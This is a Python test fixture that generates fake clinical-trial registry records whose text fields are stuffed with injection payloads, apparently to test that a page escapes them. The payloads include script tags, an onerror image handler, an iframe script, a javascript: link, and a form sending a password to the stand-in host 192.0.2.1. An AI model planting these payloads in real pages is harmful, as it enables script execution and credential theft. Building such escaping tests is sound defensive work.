"""Studies in the registry's shape whose every text does harm where it is taken for more than text. All fake.

Each text begins with a marker that names its field, so that a test can tell which of them a page shows.
"""

from collections.abc import Callable, Iterator
from copy import deepcopy
from typing import Any

from full_study import FULL

Study = dict[str, Any]

PWNED = "window.pwned = 1"
#: What would run, load, be drawn as another thing, or turn what stands beside it, if it were taken for more than text.
ATTACKS = {
    "script": f"<script>{PWNED}</script>",
    "image": f'<img src="http://192.0.2.1/x.png" onerror="{PWNED}">',
    "frame": f"<iframe srcdoc='<script>parent.{PWNED}</script>'></iframe>",
    "style": "<style>body{display:none}</style>",
    "form": '<form action="http://192.0.2.1/"><input name="password"></form>',
    "link": f"[x](javascript:{PWNED})",
    "remote": "![y](http://192.0.2.1/y.png)",
    "markdown": "**bold** # _i_ ~~s~~ `code`",
    "latex": r"$\LaTeX$ and $$x^2$$",
    "icon": ":material/home: :red[x] :smile:",
    "attribute": f'" onmouseover="{PWNED}" x=\'',
    "template": "{name} {0} %s ${x} {{7*7}}",
    "turned": "\u202eturned\u202c \u2067isolated\u2069 \u200fmark",
    "hidden": "zero\u200bwidth\u2060joined\ufeffbom",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd 12",
    "piled": "z" + "\u0335\u0323\u030c" * 20 + "algo",
}
ALL = " ".join(ATTACKS.values())
#: 100 kB without one blank.
LONG = "W" * 100_000
#: Values that the registry takes from a list of its own: their place in a study, by name.
_FROM_LISTS = {
    "nctId", "overallStatus", "lastKnownStatus", "status", "type", "class", "role", "date", "allocation", "masking",
    "whoMasked", "primaryPurpose", "studyType", "phases", "sex", "minimumAge", "maximumAge", "statusVerifiedDate",
}  # fmt: skip
EVERYWHERE, ENDLESS, LISTS = "NCT66600001", "NCT66600002", "NCT66600003"


def make_hostile_studies() -> list[Study]:
    """One with all attacks in every text, one with a text without end in each, and one that lies in values of lists."""
    return [
        fill_texts(EVERYWHERE, lambda place: f"{place} {ALL}"),
        fill_texts(ENDLESS, lambda place: f"{place}{LONG}"),
        fill_texts(LISTS, lambda place: place, lists=lambda place: f"{place} {ALL}"),
    ]


def fill_texts(nct_id: str, write: Callable[[str], str], lists: Callable[[str], str] | None = None) -> Study:
    """The full study with every text replaced; it stays one about neuroendocrine tumors that takes people now."""
    study: Study = deepcopy(FULL)
    for owner, key, place in list(_walk(study["protocolSection"], "")):
        name = place.rstrip("0123456789").rstrip("-").split("-")[-1]
        if name not in _FROM_LISTS:
            owner[key] = write(f"at-{place}")
        elif lists is not None:
            owner[key] = lists(f"at-{place}")
    section = study["protocolSection"]
    section["identificationModule"] |= {"nctId": nct_id, "nctIdAliases": []}
    for official in section["contactsLocationsModule"]["overallOfficials"]:
        # What is plainly no name is not listed among people.
        official |= {"name": "Ann Fake, MD", "role": "STUDY_CHAIR", "affiliation": write("at-affiliation")}
    if lists is None:
        section["statusModule"] |= {"overallStatus": "RECRUITING", "completionDateStruct": {"date": "2099-01"}}
    section["conditionsModule"]["conditions"].append("Neuroendocrine Tumor of the Pancreas")
    for number, (city, country) in enumerate((("Houston", "United States"), ("Lyon", "France"))):
        site = section["contactsLocationsModule"]["locations"][number]
        site |= {"status": "RECRUITING", "geoPoint": {"lat": 29.76 + number * 16, "lon": -95.36 + number * 100}}
        if nct_id == LISTS:
            site |= {"city": city, "country": country}
    return study


def _walk(part: Any, place: str) -> Iterator[tuple[Any, Any, str]]:
    """Every text with its owner, its key, and its place in words."""
    items = part.items() if isinstance(part, dict) else enumerate(part) if isinstance(part, list) else ()
    for key, value in items:
        here = f"{place}-{key}".lstrip("-")
        if isinstance(value, str):
            yield part, key, here
        else:
            yield from _walk(value, here)
